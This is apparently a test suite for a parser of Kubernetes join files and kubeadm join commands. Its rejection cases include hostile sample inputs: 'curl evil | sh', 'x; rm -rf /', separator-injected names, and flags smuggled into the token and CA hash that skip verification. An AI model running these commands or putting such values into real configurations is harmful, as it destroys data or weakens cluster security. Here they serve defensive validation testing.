import { describe, expect, test } from "bun:test";
import { joinProblems, joinWarnings, kubeadmJoinArgs, parseJoinFile, parsePrintJoinCommand, renderJoinFile, type JoinFile } from "../../../lib/cluster/join-file.ts";
import { nodeSubnet } from "../../../lib/net.ts";
import { UsageError } from "../../../lib/errors.ts";

const HASH = `sha256:${"ab".repeat(32)}`;
const valid: JoinFile = {
  kind: "u7s-join",
  version: 1,
  controlPlane: { nodeName: "u7s-cp", hostIp: "192.0.2.10", portKubeApiserver: 6443, portFlannel: 8472, nodeSubnet: "10.100.7.0/24" },
  join: { endpoint: "u7s-cp:6443", token: "abcdef.0123456789abcdef", caCertHashes: [HASH] },
  created: "2026-11-23T10:00:00.000Z",
};
const text = (f: unknown) => JSON.stringify(f);
const clone = (): JoinFile => JSON.parse(JSON.stringify(valid));

describe("parsePrintJoinCommand", () => {
  const JOIN = { endpoint: "u7s-cp:6443", token: "abcdef.0123456789abcdef", caCertHashes: [HASH] };
  test.each([
    ["as kubeadm prints it", `kubeadm join u7s-cp:6443 --token abcdef.0123456789abcdef --discovery-token-ca-cert-hash ${HASH} \n`],
    ["with = between flag and value", `kubeadm join u7s-cp:6443 --token=abcdef.0123456789abcdef --discovery-token-ca-cert-hash=${HASH}`],
    ["with blank lines and runs of spaces", `\n  kubeadm join   u7s-cp:6443\t--token abcdef.0123456789abcdef  --discovery-token-ca-cert-hash ${HASH}\n\n`],
    ["with a flag u7s does not use", `kubeadm join u7s-cp:6443 --v=5 --token abcdef.0123456789abcdef --discovery-token-ca-cert-hash ${HASH}`],
  ])("reads the join command %s", (_how, out) => {
    expect(parsePrintJoinCommand(out)).toEqual(JOIN);
  });
  test("keeps every CA hash", () => {
    const other = HASH.replace("ab", "cd");
    expect(parsePrintJoinCommand(`kubeadm join a:1 --token abcdef.0123456789abcdef --discovery-token-ca-cert-hash ${HASH} --discovery-token-ca-cert-hash=${other}`).caCertHashes).toEqual([HASH, other]);
  });
  const TAIL = `--token abcdef.0123456789abcdef --discovery-token-ca-cert-hash ${HASH}`;
  test.each([
    ["not kubeadm", "echo hi", "unexpected output"],
    ["another kubeadm command", `kubeadm reset a:1 ${TAIL}`, "unexpected output"],
    ["another program's join", `kubectl join a:1 ${TAIL}`, "unexpected output"],
    ["no endpoint", "kubeadm join", "unexpected output"],
    ["a flag where the endpoint goes", `kubeadm join ${TAIL}`, "unexpected output"],
    ["no hash", "kubeadm join a:1 --token abcdef.0123456789abcdef", "without a valid token"],
    ["bad token", `kubeadm join a:1 --token ABC --discovery-token-ca-cert-hash ${HASH}`, "without a valid token"],
    ["a token with more before it", `kubeadm join a:1 --token 0abcdef.0123456789abcdef --discovery-token-ca-cert-hash ${HASH}`, "without a valid token"],
    ["a hash with more after it", `kubeadm join a:1 --token abcdef.0123456789abcdef --discovery-token-ca-cert-hash ${HASH}00`, "without a valid token"],
    ["a hash with more before it", `kubeadm join a:1 --token abcdef.0123456789abcdef --discovery-token-ca-cert-hash x${HASH}`, "without a valid token"],
    ["one bad hash among good ones", `kubeadm join a:1 ${TAIL} --discovery-token-ca-cert-hash md5:00`, "without a valid token"],
  ])("refuses output with %s", (_what, out, message) => {
    expect(() => parsePrintJoinCommand(out)).toThrow(message);
  });
  test.each([
    ["of another shape", "x".repeat(1000)],
    ["without a token", `kubeadm join a:1 --token ${"x".repeat(1000)}`],
  ])("quotes at most 200 characters of a long output %s", (_what, out) => {
    const message = (() => {
      try {
        parsePrintJoinCommand(out);
      } catch (e) {
        return (e as Error).message;
      }
    })();
    expect(message).toContain(`"${out.slice(0, 200)}"`);
  });
});

describe("parseJoinFile", () => {
  test("round-trips what renderJoinFile writes", () => {
    expect(parseJoinFile(renderJoinFile(valid), "j.json")).toEqual(valid);
  });

  // Each mutation of a valid file must be refused with a usage error naming the field.
  const malformed: [string, (f: Record<string, any>) => unknown, string][] = [
    ["not JSON", () => "kubeadm join x", "not JSON"],
    ["a JSON array", () => [], "the file is not an object"],
    ["JSON null", () => null, "the file is not an object"],
    ["a control plane that is not an object", (f) => ({ ...f, controlPlane: "u7s-cp" }), "controlPlane is not an object"],
    ["a null join", (f) => ({ ...f, join: null }), "join is not an object"],
    ["an unknown field in controlPlane", (f) => ({ ...f, controlPlane: { ...f.controlPlane, extra: 1 } }), "unknown field controlPlane.extra"],
    ["another kind", (f) => ({ ...f, kind: "other" }), "kind="],
    ["a newer version", (f) => ({ ...f, version: 2 }), "version=2"],
    ["an extra top-level field (a script to run)", (f) => ({ ...f, script: "curl evil | sh" }), "unknown field script"],
    ["a missing field", (f) => ({ ...f, join: undefined }), "missing field join"],
    ["a control plane name with a shell command", (f) => ({ ...f, controlPlane: { ...f.controlPlane, nodeName: "x; rm -rf /" } }), "controlPlane.nodeName"],
    ["a control plane name after something else", (f) => ({ ...f, controlPlane: { ...f.controlPlane, nodeName: "evil;u7s-cp" } }), "controlPlane.nodeName"],
    ["a control plane name before something else", (f) => ({ ...f, controlPlane: { ...f.controlPlane, nodeName: "u7s-cp;evil" } }), "controlPlane.nodeName"],
    ["a control plane name of 64 characters", (f) => ({ ...f, controlPlane: { ...f.controlPlane, nodeName: "x".repeat(64) } }), "controlPlane.nodeName"],
    ["a control plane name that is a number", (f) => ({ ...f, controlPlane: { ...f.controlPlane, nodeName: 7 } }), "controlPlane.nodeName=7"],
    ["a host IP that is not IPv4", (f) => ({ ...f, controlPlane: { ...f.controlPlane, hostIp: "example.com" } }), "controlPlane.hostIp"],
    ["the unspecified host IP", (f) => ({ ...f, controlPlane: { ...f.controlPlane, hostIp: "0.0.0.0" } }), "controlPlane.hostIp"],
    ["a port out of range", (f) => ({ ...f, controlPlane: { ...f.controlPlane, portFlannel: 70000 } }), "controlPlane.portFlannel"],
    ["port 0", (f) => ({ ...f, controlPlane: { ...f.controlPlane, portFlannel: 0 } }), "controlPlane.portFlannel=0"],
    ["a port that is not an integer", (f) => ({ ...f, controlPlane: { ...f.controlPlane, portFlannel: 8472.5 } }), "controlPlane.portFlannel=8472.5"],
    ["a port as a string", (f) => ({ ...f, controlPlane: { ...f.controlPlane, portKubeApiserver: "6443" } }), "controlPlane.portKubeApiserver"],
    ["a subnet that is not /24", (f) => ({ ...f, controlPlane: { ...f.controlPlane, nodeSubnet: "10.0.0.0/8" } }), "controlPlane.nodeSubnet"],
    ["an endpoint pointing elsewhere", (f) => ({ ...f, join: { ...f.join, endpoint: "evil.example:6443" } }), "join.endpoint"],
    ["a token with a flag smuggled in", (f) => ({ ...f, join: { ...f.join, token: "abcdef.0123456789abcdef --ignore-preflight-errors=all" } }), "join.token"],
    ["a token with a flag before it", (f) => ({ ...f, join: { ...f.join, token: "--ignore-preflight-errors=all abcdef.0123456789abcdef" } }), "join.token"],
    ["no CA hash (unverified discovery)", (f) => ({ ...f, join: { ...f.join, caCertHashes: [] } }), "join.caCertHashes"],
    ["a CA hash of the wrong form", (f) => ({ ...f, join: { ...f.join, caCertHashes: ["md5:abc"] } }), "join.caCertHashes"],
    ["a CA hash with more after it", (f) => ({ ...f, join: { ...f.join, caCertHashes: [`${HASH} --unsafe`] } }), "join.caCertHashes"],
    ["a bad CA hash beside a good one", (f) => ({ ...f, join: { ...f.join, caCertHashes: [HASH, "md5:abc"] } }), "join.caCertHashes"],
    ["a CA hash in a nested list", (f) => ({ ...f, join: { ...f.join, caCertHashes: [[HASH]] } }), "join.caCertHashes"],
    ["an unknown field in join", (f) => ({ ...f, join: { ...f.join, "unsafe-skip-ca-verification": true } }), "unknown field join.unsafe-skip-ca-verification"],
    ["a created time that is not a time", (f) => ({ ...f, created: "yesterday" }), "created="],
    ["a created time that is a number", (f) => ({ ...f, created: 5 }), "created=5"],
  ];
  test.each(malformed)("refuses %s", (_what, mutate, field) => {
    const m = mutate(clone() as Record<string, any>);
    const src = typeof m === "string" ? m : text(m);
    let err: unknown;
    try {
      parseJoinFile(src, "j.json");
    } catch (e) {
      err = e;
    }
    expect(err).toBeInstanceOf(UsageError);
    expect((err as UsageError).exitCode).toBe(2);
    const message = (err as Error).message;
    expect(message).toContain(`join file j.json: ${field}`);
    // a value that is not valid: the message says what is
    if (message.includes(" is not valid")) expect(message).toMatch(/ is not valid \(.+\)$/);
    expect((err as UsageError).hint).toContain("`u7s join-command`");
  });

  // Issue 15: a control plane address that cannot be another host is refused, as the worker's own HOST_IP is.
  test.each([
    ["loopback", "127.0.0.1", "the loopback range 127.0.0.0/8"],
    ["another loopback address", "127.1.2.3", "the loopback range 127.0.0.0/8"],
    ["in 0.0.0.0/8", "0.0.0.7", '"this network" range 0.0.0.0/8'],
    ["multicast", "239.1.1.1", "the multicast range 224.0.0.0/4"],
    ["reserved", "250.0.0.1", "the reserved range 240.0.0.0/4"],
    ["link-local", "169.254.169.254", "the link-local range 169.254.0.0/16"],
  ])("refuses a %s control plane address, naming it, its range and what is valid", (_what, hostIp, range) => {
    const f = { ...valid, controlPlane: { ...valid.controlPlane, hostIp } };
    expect(() => parseJoinFile(text(f), "j.json")).toThrow(
      `join file j.json: controlPlane.hostIp="${hostIp}" is not valid (in ${range.startsWith('"') ? `the ${range}` : range}`,
    );
    expect(() => parseJoinFile(text(f), "j.json")).toThrow("valid: the control plane host's HOST_IP, an IPv4 address other hosts reach it at)");
  });
  test.each(["192.0.2.10", "10.213.0.1", "223.255.255.254", "1.0.0.1", "169.253.0.1", "126.255.255.255"])("accepts the control plane address %s", (hostIp) => {
    const f = { ...valid, controlPlane: { ...valid.controlPlane, hostIp } };
    expect(parseJoinFile(text(f), "j.json").controlPlane.hostIp).toBe(hostIp);
  });
  test("a host IP that is not a string is refused naming it", () => {
    expect(() => parseJoinFile(text({ ...valid, controlPlane: { ...valid.controlPlane, hostIp: 7 } }), "j.json")).toThrow('controlPlane.hostIp=7 is not valid (not a string;');
  });

  test("an endpoint other than the control plane's is refused naming the one it must be", () => {
    expect(() => parseJoinFile(text({ ...valid, join: { ...valid.join, endpoint: "u7s-cp:443" } }), "j.json")).toThrow("u7s-cp:6443)");
  });

  test.each([
    ["a one-letter name", "a"],
    ["a one-letter label after a dot", "cp.a"],
    ["longer labels after a dot", "cp.abcd"],
    ["a dash inside a label after a dot", "cp.a-b"],
    ["63 characters", "x".repeat(63)],
  ])("accepts a control plane name of %s", (_what, nodeName) => {
    const f = { ...valid, controlPlane: { ...valid.controlPlane, nodeName }, join: { ...valid.join, endpoint: `${nodeName}:6443` } };
    expect(parseJoinFile(text(f), "j.json")).toEqual(f);
  });

  test.each([1, 65535])("accepts port %p", (port) => {
    const f = { ...valid, controlPlane: { ...valid.controlPlane, portKubeApiserver: port }, join: { ...valid.join, endpoint: `u7s-cp:${port}` } };
    expect(parseJoinFile(text(f), "j.json")).toEqual(f);
  });
});

describe("joinProblems", () => {
  const worker = { nodeName: "u7s-w", nodeSubnet: "10.100.8.0/24", portFlannel: 8472 };
  test("a worker with its own name and subnet and the cluster's Flannel port may join", () => {
    expect(joinProblems(valid, worker)).toEqual([]);
  });
  test("names each mismatch with the setting to change", () => {
    const p = joinProblems(valid, { nodeName: "u7s-cp", nodeSubnet: "10.100.7.0/24", portFlannel: 18472 });
    expect(p).toHaveLength(3);
    expect(p[0]).toContain("PORT_FLANNEL=18472 differs from the cluster's 8472");
    expect(p[1]).toContain("set NODE_SUBNET");
    expect(p[2]).toContain("NODE_NAME=u7s-cp");
  });
});

describe("what upstream's join-command does not say", () => {
  // parsed from upstream's script: no Flannel port, no subnet
  const upstream = { controlPlane: { ...valid.controlPlane, portFlannel: undefined, nodeSubnet: undefined } };
  test("joinProblems checks only the node name then", () => {
    expect(joinProblems(upstream, { nodeName: "u7s-w", nodeSubnet: "10.100.7.0/24", portFlannel: 18472 })).toEqual([]);
    expect(joinProblems(upstream, { nodeName: "u7s-cp", nodeSubnet: "10.100.8.0/24", portFlannel: 8472 })).toEqual([
      "NODE_NAME=u7s-cp is the control plane's name: set NODE_NAME (or HOSTNAME) to a name of this host",
    ]);
  });
  test("joinWarnings: a Flannel port other than upstream's default is named, with the port to set", () => {
    const w = joinWarnings(upstream, { nodeName: "u7s-w", nodeSubnet: "10.100.8.0/24", portFlannel: 18476 }, "jc");
    expect(w).toEqual([
      "jc (upstream's join-command) does not say the cluster's Flannel port; upstream's default is 8472, this host's PORT_FLANNEL is 18476: " +
        "every host of a cluster must use the same port (set PORT_FLANNEL=8472 here unless the control plane uses 18476)",
    ]);
    expect(joinWarnings(upstream, { nodeName: "u7s-w", nodeSubnet: "10.100.8.0/24", portFlannel: 8472 }, "jc")).toEqual([]);
  });
  test("joinWarnings: upstream's default subnet of the control plane's host, when it is this host's", () => {
    const cp = { controlPlane: { ...upstream.controlPlane, nodeName: "u7s-login1" } };
    const same = nodeSubnet("login1");
    const w = joinWarnings(cp, { nodeName: "u7s-w", nodeSubnet: same, portFlannel: 8472 }, "jc");
    expect(w).toEqual([
      `jc (upstream's join-command) does not say the control plane's NODE_SUBNET; upstream's default for its host login1 is ${same}, ` +
        "this host's NODE_SUBNET too: if the control plane uses it, set NODE_SUBNET to another x.y.z.0/24 here",
    ]);
    const other = same === "10.100.9.0/24" ? "10.100.10.0/24" : "10.100.9.0/24";
    expect(joinWarnings(cp, { nodeName: "u7s-w", nodeSubnet: other, portFlannel: 8472 }, "jc")).toEqual([]);
    // a name that is not upstream's u7s-HOSTNAME says nothing of the host
    const w2 = { nodeName: "u7s-w", nodeSubnet: nodeSubnet("login1"), portFlannel: 8472 };
    expect(joinWarnings({ controlPlane: { ...cp.controlPlane, nodeName: "xyz-login1" } }, w2, "jc")).toEqual([]);
    expect(joinWarnings({ controlPlane: { ...cp.controlPlane, nodeName: "cp-login1" } }, { ...w2, nodeSubnet: nodeSubnet("cp-login1") }, "jc")).toEqual([]);
    expect(joinWarnings({ controlPlane: { ...cp.controlPlane, nodeName: "x-u7s-login1" } }, { ...w2, nodeSubnet: nodeSubnet("x-login1") }, "jc")).toEqual([]);
  });
  test("joinWarnings says nothing about a u7s join file (it carries both)", () => {
    expect(joinWarnings(valid, { nodeName: "u7s-w", nodeSubnet: nodeSubnet("cp"), portFlannel: 18476 }, "j.json")).toEqual([]);
  });
});

test("kubeadmJoinArgs passes the file's values as separate arguments", () => {
  expect(kubeadmJoinArgs(valid)).toEqual(["kubeadm", "join", "u7s-cp:6443", "--token", "abcdef.0123456789abcdef", "--discovery-token-ca-cert-hash", HASH]);
});

describe("NODE_MTU in the join file", () => {
  const worker = { nodeName: "u7s-w", nodeSubnet: "10.100.8.0/24", portFlannel: 8472 };
  const withMtu = (m: unknown) => ({ ...valid, controlPlane: { ...valid.controlPlane, nodeMtu: m } });

  test("a file may carry the control plane's NODE_MTU; one without it stays valid", () => {
    expect(parseJoinFile(text(withMtu(9000)), "j.json").controlPlane.nodeMtu).toBe(9000);
    expect("nodeMtu" in parseJoinFile(text(valid), "j.json").controlPlane).toBe(false);
  });

  test.each([1279, 65521, 1500.5, "9000", null])("controlPlane.nodeMtu=%p is refused", (m) => {
    expect(() => parseJoinFile(text(withMtu(m)), "j.json")).toThrow(`join file j.json: controlPlane.nodeMtu=${JSON.stringify(m)} is not an MTU (1280-65520)`);
  });

  test("a worker with another NODE_MTU is refused, naming both; the same one (or both unset) joins", () => {
    expect(joinProblems(withMtu(9000) as JoinFile, { ...worker, nodeMtu: 9000 })).toEqual([]);
    expect(joinProblems(valid, worker)).toEqual([]);
    expect(joinProblems(withMtu(9000) as JoinFile, worker)).toEqual([
      "NODE_MTU=unset (the engine's 1500) differs from the cluster's 9000: every host of a cluster must use the same MTU (set NODE_MTU=9000)",
    ]);
    expect(joinProblems(valid, { ...worker, nodeMtu: 9000 })).toEqual([
      "NODE_MTU=9000 differs from the cluster's unset (the engine's 1500): every host of a cluster must use the same MTU (unset NODE_MTU)",
    ]);
  });

  test("upstream's join-command says nothing about it: not checked", () => {
    const upstream = { controlPlane: { ...valid.controlPlane, portFlannel: undefined, nodeSubnet: undefined } };
    expect(joinProblems(upstream, { ...worker, nodeMtu: 9000 })).toEqual([]);
  });
});
